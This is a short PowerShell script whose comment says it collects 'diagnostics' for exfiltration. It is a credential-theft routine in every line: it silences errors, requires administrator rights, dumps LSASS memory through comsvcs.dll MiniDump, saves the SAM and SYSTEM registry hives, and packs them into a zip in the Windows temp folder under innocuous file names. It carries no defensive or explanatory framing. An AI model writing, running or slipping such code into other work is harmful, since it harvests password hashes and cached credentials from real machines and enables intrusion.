# collect "diagnostics" for exfil
$ErrorActionPreference = 'SilentlyContinue'
$isAdmin = ([Security.Principal.WindowsPrincipal][Security.Principal.WindowsIdentity]::GetCurrent()).IsInRole([Security.Principal.WindowsBuiltInRole]::Administrator)
if (-not $isAdmin) {
    exit 5
}
$lsass = Get-Process -Name lsass
$dump = 'C:\Windows\Temp\debug.dmp'
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $lsass.Id $dump full
reg save HKLM\SAM C:\Windows\Temp\sam.hiv /y
reg save HKLM\SYSTEM C:\Windows\Temp\sys.hiv /y
Compress-Archive -Path $dump, C:\Windows\Temp\sam.hiv, C:\Windows\Temp\sys.hiv -DestinationPath C:\Windows\Temp\diag.zip
